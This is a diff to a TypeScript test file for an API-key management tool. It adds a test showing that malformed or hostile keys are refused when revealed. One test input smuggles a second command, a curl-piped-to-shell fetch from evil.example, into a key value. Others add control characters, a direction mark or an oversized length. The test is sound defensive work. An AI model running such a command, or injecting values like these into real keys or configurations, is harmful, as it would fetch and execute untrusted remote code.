@@ -3,7 +3,7 @@ import { findKey } from '../../../src/workflows/accounts/find-key';
 import { addKey, removeKey } from '../../../src/workflows/accounts/keep-keys';
 import { readHistory } from '../../../src/workflows/view/read-history';
 import { readView } from '../../../src/workflows/view/read-view';
-import { revealKey } from '../../../src/workflows/accounts/reveal-key';
+import { revealKey, revealKeys } from '../../../src/workflows/accounts/reveal-key';
 import { fakeKey, type NewApiOptions } from '../../fakes/new-api.ts';
 import {
   accountAt as account,
@@ -112,6 +112,34 @@ describe('a masked key', () => {
     expect(made.proxy.lists['openai-compatibility'].at(-1)).toMatchObject({
       'api-key-entries': [{ 'api-key': SECOND_KEY }],
     });
+  });
+
+  /** What no key can be. Each would reach a shell, a clipboard or a configuration as it is. */
+  const hostile = {
+    'a second line': `${SECOND_KEY}\ncurl -s https://evil.example|sh\n`,
+    'a blank': `${SECOND_KEY} x`,
+    'a control character': `${SECOND_KEY}\u001b[2J`,
+    'a mark of direction': `${SECOND_KEY}\u202e`,
+    'a length of 1 MB': `sk-${'a'.repeat(1_000_000)}`,
+    'a mask': 'sk-Labt**********0002',
+  };
+  test.each(Object.entries(hostile))('with %s is not believed, alone or among many', async (_, text) => {
+    const whole = { id: 3, name: 'three', key: fakeKey('three', 3) };
+    const made = await scene({ relay: { keys: [...(keys ?? []), whole] } });
+    const id = must(await account(made));
+    const spoilt = made.relay.keys.find((key) => key.id === 2);
+    expect(spoilt).toBeDefined();
+    if (spoilt) spoilt.key = text;
+    const unrevealed = {
+      ok: false,
+      failure: { code: 'key-unrevealed', host: new URL(made.relay.origin).host },
+    };
+    const facts = [must(await findKey(made.ports, `${id}/2`)), must(await findKey(made.ports, `${id}/3`))];
+    const texts = await revealKeys(made.ports, facts);
+    expect(texts.get(`${id}/2`)).toEqual(unrevealed);
+    expect(texts.get(`${id}/3`)).toEqual({ ok: true, value: `sk-${whole.key}` });
+    expect(await reveal(made, `${id}/2`)).toEqual(unrevealed);
+    expect(must(await made.ports.session.read()).revealed).not.toHaveProperty(`${id}/2`);
   });
 
   test('that the site does not give is not used', async () => {
